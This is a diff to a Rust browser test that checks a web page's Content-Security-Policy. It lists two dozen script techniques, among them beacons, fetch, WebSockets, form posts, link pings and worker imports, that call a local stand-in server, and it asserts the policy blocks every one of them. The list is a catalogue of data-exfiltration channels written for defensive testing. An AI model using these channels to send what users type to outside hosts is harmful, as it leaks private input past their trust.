@@ -1,12 +1,16 @@
 //! Nothing leaves the page, and the browser is who sees to it.
 
+use std::collections::BTreeSet;
 use std::fs;
+use std::io::{Read, Write};
 use std::net::TcpListener;
-use std::time::Duration;
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::{Duration, Instant};
 
 use crate::browser::Browser;
 use crate::site::Site;
-use crate::support::{GLOWING, RELAXED, answer_to, copy, dist, engine, open};
+use crate::support::{GLOWING, RELAXED, answer_to, copy, dist, engine, open, run_in_worker};
 
 /// What an engine gone bad would do: tell somebody else what was typed.
 #[test]
@@ -27,7 +31,7 @@ fn the_browser_lets_the_engine_tell_nobody() {
         let browser = Browser::start();
         open(&browser, &site.address());
         answer_to(&browser, GLOWING);
-        std::thread::sleep(Duration::from_secs(1));
+        thread::sleep(Duration::from_secs(1));
         stranger.accept().is_ok()
     };
     assert!(!visit(), "the engine has told somebody else");
@@ -37,4 +41,114 @@ fn the_browser_lets_the_engine_tell_nobody() {
     let html = fs::read_to_string(&page).expect("the page can be read");
     fs::write(&page, html.replace("Content-Security-Policy", "no-policy")).expect("the page can be written");
     assert!(visit(), "without a policy nothing holds the engine back");
+}
+
+/// What a page's script can do to have an address asked for, `to`, and the name by which the stranger knows it. `add` puts an element into the page.
+/// What no policy shuts is not among them: docs/SECURITY.md names it.
+const WAYS_OF_A_PAGE: [(&str, &str); 19] = [
+    ("background", "document.body.style.backgroundImage = `url(${to})`"),
+    ("beacon", "navigator.sendBeacon(to, 'said')"),
+    ("events", "new EventSource(to)"),
+    ("fetch", "fetch(to, { mode: 'no-cors' }).catch(() => {})"),
+    ("font", "new FontFace('said', `url(${to})`).load().catch(() => {})"),
+    ("form", "add('iframe', { name: 'sink' }); add('form', { action: to, target: 'sink', method: 'post' }).submit()"),
+    ("frame", "add('iframe', { src: to })"),
+    ("image", "new Image().src = to"),
+    ("import", "import(to).catch(() => {})"),
+    ("keepalive", "fetch(to, { mode: 'no-cors', method: 'POST', body: 'said', keepalive: true }).catch(() => {})"),
+    ("object", "add('object', { data: to })"),
+    ("ping", "add('a', { href: '#', ping: to }).click()"),
+    ("prefetch", "add('link', { rel: 'prefetch', href: to })"),
+    ("request", "const request = new XMLHttpRequest(); request.open('GET', to); request.send()"),
+    ("script", "add('script', { src: to })"),
+    ("socket", "new WebSocket(to.replace('http', 'ws'))"),
+    ("sound", "new Audio(to).play().catch(() => {})"),
+    ("style", "add('link', { rel: 'stylesheet', href: to })"),
+    ("worker", "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}')`])))"),
+];
+
+/// The same of the engine's worker, where there is no page to add to.
+const WAYS_OF_A_WORKER: [(&str, &str); 5] = [
+    ("worker-events", "new EventSource(to)"),
+    ("worker-fetch", "fetch(to, { mode: 'no-cors' }).catch(() => {})"),
+    ("worker-import", "importScripts(to)"),
+    ("worker-request", "const request = new XMLHttpRequest(); request.open('GET', to); request.send()"),
+    ("worker-socket", "new WebSocket(to.replace('http', 'ws'))"),
+];
+
+/// A server that is not the page's, and notes by which ways it was asked.
+struct Stranger {
+    port: u16,
+    heard: Arc<Mutex<BTreeSet<String>>>,
+}
+
+impl Stranger {
+    fn listen() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
+        let port = listener.local_addr().expect("a bound listener has an address").port();
+        let heard = Arc::new(Mutex::new(BTreeSet::new()));
+        let noted = Arc::clone(&heard);
+        thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                let noted = Arc::clone(&noted);
+                // Browsers open connections beforehand and say nothing: each waits for itself.
+                thread::spawn(move || {
+                    let mut bytes = [0; 1024];
+                    let length = stream.read(&mut bytes).unwrap_or(0);
+                    let request = String::from_utf8_lossy(&bytes[..length]);
+                    if let Some(way) = request.split(['/', ' ', '?']).nth(2).filter(|way| !way.is_empty()) {
+                        noted.lock().expect("nobody panics with it").insert(way.to_owned());
+                    }
+                    let _ = stream.write_all(
+                        b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
+                    );
+                });
+            }
+        });
+        Self { port, heard }
+    }
+
+    /// By which ways it was asked, as soon as it was by all of them, or else after `patience`.
+    fn heard(&self, ways: usize, patience: Duration) -> BTreeSet<String> {
+        let begun = Instant::now();
+        loop {
+            let heard = self.heard.lock().expect("nobody panics with it").clone();
+            if heard.len() == ways || begun.elapsed() > patience {
+                return heard;
+            }
+            thread::sleep(Duration::from_millis(50));
+        }
+    }
+}
+
+#[test]
+#[ignore = "needs the built site: make e2e"]
+fn every_way_out_that_a_policy_can_shut_is_shut() {
+    let dist = dist();
+    let ways = WAYS_OF_A_PAGE.len() + WAYS_OF_A_WORKER.len();
+    let visit = |change: &dyn Fn(&str) -> String, patience| {
+        let stranger = Stranger::listen();
+        let to = |way: &str| format!("const to = 'http://127.0.0.1:{}/{way}';", stranger.port);
+        let copy = copy(&dist);
+        let page = copy.path().join("index.html");
+        let html = fs::read_to_string(&page).expect("the page can be read");
+        fs::write(&page, change(&html)).expect("the page can be written");
+        let of_worker = WAYS_OF_A_WORKER.map(|(way, code)| format!("try {{ {} {code}; }} catch {{}}", to(way)));
+        run_in_worker(copy.path(), &of_worker.join("\n"));
+
+        let site = Site::serve(copy.path());
+        let browser = Browser::start();
+        open(&browser, &site.address());
+        answer_to(&browser, GLOWING);
+        let add = "const add = (name, has) => { const element = Object.assign(document.createElement(name), has); document.body.append(element); return element; };";
+        for (way, code) in WAYS_OF_A_PAGE {
+            browser.run(&format!("{add} {} try {{ {code}; }} catch {{}} return true", to(way)));
+        }
+        stranger.heard(ways, patience)
+    };
+    assert_eq!(visit(&|html| html.to_owned(), Duration::from_secs(2)), BTreeSet::new());
+
+    // Without the policy each of them leads to the stranger, so that the test can tell.
+    let all: BTreeSet<_> = WAYS_OF_A_PAGE.iter().chain(&WAYS_OF_A_WORKER).map(|(way, _)| (*way).to_owned()).collect();
+    assert_eq!(visit(&|html| html.replace("Content-Security-Policy", "no-policy"), Duration::from_secs(20)), all);
 }
